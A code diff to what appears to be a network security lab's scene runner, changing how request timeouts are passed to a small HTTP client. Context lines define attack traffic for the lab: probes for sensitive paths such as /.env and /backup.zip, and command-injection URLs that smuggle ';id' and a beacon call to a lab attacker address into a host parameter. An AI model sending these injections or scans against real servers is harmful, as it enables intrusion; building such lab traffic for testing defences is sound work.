@@ -15,7 +15,8 @@ from dataclasses import dataclass
 from sekisho_edge.lab import site
 from sekisho_edge.lab.lab import Lab
 
-VISIT_SECONDS_MAX = 20.0
+ANSWER_SECONDS_MAX = 15.0
+SCENE_STEP_SECONDS_MAX = 30.0
 BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 SCANNED = ("/admin/", "/phpmyadmin/", "/cgi-bin/test", "/server-status", "/backup.zip", "/.env")
 INJECTED_ID = "/cgi-bin/lookup?host=127.0.0.1%3Bid"
@@ -24,9 +25,9 @@ INJECTED_BEACON = f"/cgi-bin/lookup?host=127.0.0.1%3Bbeacon%20{site.ATTACKER_ADD
 # One small client for all visits: address, user agent, then paths; prints status and body of each answer.
 _VISIT = """
 import http.client, sys
-host, port, agent, method, *paths = sys.argv[1:]
+host, port, agent, method, seconds, *paths = sys.argv[1:]
 for path in paths:
-    peer = http.client.HTTPConnection(host, int(port), timeout=15)
+    peer = http.client.HTTPConnection(host, int(port), timeout=float(seconds))
     peer.request(method, path, body=b"text=hello" if method == "POST" else None, headers={"User-Agent": agent})
     answer = peer.getresponse()
     sys.stdout.write(f"{answer.status} {path}\\n" + answer.read(65536).decode(errors="replace") + "\\n")
@@ -101,14 +102,22 @@ SCENES: dict[str, Callable[[Lab], Iterator[Progress]]] = {"ordinary": ordinary, 
 
 
 def visit(
-    lab: Lab, host: str, server: str, paths: list[str], *, agent: str = BROWSER, method: str = "GET", port: int = 80
+    lab: Lab,
+    host: str,
+    server: str,
+    paths: list[str],
+    *,
+    agent: str = BROWSER,
+    method: str = "GET",
+    port: int = 80,
+    seconds_max: float = ANSWER_SECONDS_MAX,
 ) -> str:
     """Requests from a lab host; what it got, as text. SceneError when the server can't be reached."""
-    return _python(lab, host, _VISIT, server, str(port), agent, method, *paths)
+    return _python(lab, host, _VISIT, server, str(port), agent, method, str(seconds_max), *paths)
 
 
 def _python(lab, host, program, *arguments):
-    done = lab.run(host, [sys.executable, "-I", "-S", "-c", program, *arguments], timeout=VISIT_SECONDS_MAX)
+    done = lab.run(host, [sys.executable, "-I", "-S", "-c", program, *arguments], timeout=SCENE_STEP_SECONDS_MAX)
     if done.returncode != 0:
         raise SceneError(f"{host} failed: {done.stderr.decode(errors='replace').strip()[-500:]}")
     return done.stdout.decode(errors="replace")
